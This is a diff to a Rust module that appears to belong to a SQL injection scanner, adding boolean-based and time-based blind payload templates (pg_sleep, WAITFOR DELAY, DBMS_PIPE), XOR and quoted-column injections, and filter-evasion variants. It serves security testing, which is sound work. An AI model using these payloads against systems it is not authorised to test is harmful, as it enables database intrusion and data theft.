@@ -12,16 +12,27 @@ const EQUAL: ([&str; 2], [&str; 2]) = (["37=37", "NOT 37=73"], ["37=73", "NOT 37
 
 /// Where a value may stand, as what is put in for a condition `{c}`; `{v}` is the usual value.
 fn places(point: &Point) -> Vec<String> {
+    if point.is_name() {
+        return COLUMNS.iter().filter(|_| !point.value.is_empty()).map(|place| (*place).to_owned()).collect();
+    }
     let value = point.value.trim();
     let is_number = value.parse::<f64>().is_ok();
-    let is_name =
-        !value.is_empty() && value.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'));
+    let is_name = !value.is_empty()
+        && value.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ','))
+        && !value.starts_with(',');
     let name = point.name.to_ascii_lowercase();
     let is_direction = ["asc", "desc"].iter().any(|word| value.eq_ignore_ascii_case(word));
-    let sorts =
-        is_direction || ["sort", "order", "dir", "col", "by", "group"].iter().any(|word| name.contains(word));
-    let numbers =
-        ["(CASE WHEN {c} THEN {v} ELSE 0-1 END)", "{v} AND {c}", "{v}) AND ({c}", "{v}/**/AND/**/{c}"];
+    let sorts = is_direction
+        || ["sort", "order", "dir", "col", "by", "group", "field", "select"]
+            .iter()
+            .any(|word| name.contains(word));
+    let numbers = [
+        "(CASE WHEN {c} THEN {v} ELSE 0-1 END)",
+        "{v} AND {c}",
+        "{v}) AND ({c}",
+        "{v}/**/AND/**/{c}",
+        "{v}^({c})^1",
+    ];
     let strings = [
         "{v}'||(CASE WHEN {c} THEN '' ELSE 'zq' END)||'",
         "{v}' AND {c} AND 'a' LIKE 'a",
@@ -31,6 +42,9 @@ fn places(point: &Point) -> Vec<String> {
         "{v}') AND {c}-- ",
         "{v}'AND({c})AND'a'LIKE'a",
         "{v}%27 AND {c} AND %27a%27 LIKE %27a",
+        // Without words, blanks and comments, whatever brackets stand around it; true leaves the value as it is.
+        "{v}'^({c})^'1",
+        "{v}\"^({c})^\"1",
     ];
     let orders = [
         "(CASE WHEN {c} THEN {v} ELSE NULL END)",
@@ -40,6 +54,7 @@ fn places(point: &Point) -> Vec<String> {
         "{v},(SELECT(CASE WHEN {c} THEN 1 ELSE(SELECT 1 UNION SELECT 2)END))",
         "{v}\"||(CASE WHEN {c} THEN '' ELSE NULL END)||\"{v}",
         "{v}`*(CASE WHEN {c} THEN 1 ELSE NULL END)*`{v}",
+        "{v}]*(CASE WHEN {c} THEN 1 ELSE NULL END)*[{v}",
     ];
     let mut list: Vec<&str> = Vec::new();
     if is_number {
@@ -65,6 +80,14 @@ fn places(point: &Point) -> Vec<String> {
     }
     list
 }
+
+/// Where the value is a name to which another value is compared, without quotes and within those of each database.
+const COLUMNS: [&str; 4] = [
+    "{v}={v} AND {c} AND {v}",
+    "{v}`=`{v}` AND {c} AND `{v}",
+    "{v}\"=\"{v}\" AND {c} AND \"{v}",
+    "{v}]=[{v}] AND {c} AND [{v}",
+];
 
 /// Conditions that add rows: for values that match none, as on a form for signing in.
 const ADDING: &[&str] = &[
@@ -138,7 +161,7 @@ async fn choose(
 }
 
 /// Whether a request looks as if it changed rows: a condition that adds rows could then change all of them.
-fn changes(entry: &Entry) -> bool {
+pub(super) fn changes(entry: &Entry) -> bool {
     let words =
         ["delete", "remove", "update", "edit", "save", "drop", "reset", "purge", "cancel", "change", "set"];
     let names = entry.request.points().into_iter().map(|point| point.name);
@@ -169,16 +192,16 @@ macro_rules! sqlite {
     };
 }
 
-/// What waits within a string, in each database's own way; `{t}` are seconds.
+/// What waits within a string, in each database's own way; `{t}` are seconds. SQL Server needs no semicolon between statements.
 pub(super) const STRINGS: [&str; 8] = [
     concat!("{v}'||", postgres!(), "||'"),
     concat!("{v}'-", mysql!(), "-'"),
     "{v}';SELECT pg_sleep({t})-- ",
-    "{v}';WAITFOR DELAY '0:0:{t}'-- ",
+    "{v}' WAITFOR DELAY '0:0:{t}'-- ",
     concat!("{v}'||", sqlite!(), "||'"),
     // Where what follows the string asks for a type that no longer text has, as dates and lists do.
     "{v}' AND 1=(SELECT 1 FROM pg_sleep({t}))-- ",
-    "{v}');WAITFOR DELAY '0:0:{t}'-- ",
+    "{v}') WAITFOR DELAY '0:0:{t}'-- ",
     // Where a filter takes away the words of queries, or blanks.
     "{v}'/**/aNd/**/sLeEp({t})/**/aNd/**/'1'='1",
 ];
@@ -191,11 +214,11 @@ const NUMBERS: [&str; 9] = [
     "{v}-(SELECT(0)FROM(SELECT(pg_sleep({t})))zq)",
     concat!("{v}-", mysql!()),
     "{v};SELECT pg_sleep({t})-- ",
-    "{v};WAITFOR DELAY '0:0:{t}'-- ",
+    "{v} WAITFOR DELAY '0:0:{t}'-- ",
     "{v}-(WITH/**/RECURSIVE/**/zq(x)AS(SELECT/**/1/**/UNION/**/ALL/**/SELECT/**/x+1/**/FROM/**/zq/**/LIMIT/**/1+{t}*6000000)SELECT/**/0*count(*)FROM/**/zq)",
     // Not well-formed in PHP, which has the same words.
     "{v}/**/aNd/**/sLeEp({t})/**/iS/**/nOt/**/nUlL",
-    "{v});WAITFOR DELAY '0:0:{t}'-- ",
+    "{v}) WAITFOR DELAY '0:0:{t}'-- ",
     "{v});SELECT pg_sleep({t})-- ",
     "{v}-(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)",
 ];
@@ -209,7 +232,7 @@ const NAMES: [&str; 8] = [
     concat!("{v}\"||", postgres!(), "||\"{v}"),
     concat!("{v}`-", mysql!(), "-`{v}"),
     concat!("{v}\"||", sqlite!(), "||\"{v}"),
-    "{v};WAITFOR DELAY '0:0:{t}'-- ",
+    "{v} WAITFOR DELAY '0:0:{t}'-- ",
     "{v},(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)",
 ];
 
@@ -219,7 +242,10 @@ pub(super) fn waiting(point: &Point, known: &Facts) -> Vec<&'static str> {
     if matches!(point.place, Place::Header | Place::Path(_)) && !is_number {
         return STRINGS.to_vec();
     }
-    let mut list: Vec<&str> = if is_number { NUMBERS.to_vec() } else { Vec::new() };
+    // A date without quotes is a difference of numbers.
+    let is_sum = point.value.starts_with(|first: char| first.is_ascii_digit())
+        && point.value.chars().all(|letter| letter.is_ascii_digit() || "-/.:, ".contains(letter));
+    let mut list: Vec<&str> = if is_number || is_sum { NUMBERS.to_vec() } else { Vec::new() };
     if known.matters {
         // Conditions have been tried: what is left is one way for each database.
         list.extend(LOGGED);
@@ -241,7 +267,7 @@ pub(super) fn waiting(point: &Point, known: &Facts) -> Vec<&'static str> {
 }
 
 /// Whether a value is a number, or several with commas between them.
-fn is_number(value: &str) -> bool {
+pub(super) fn is_number(value: &str) -> bool {
     value.split(',').all(|part| part.trim().parse::<f64>().is_ok())
 }
 
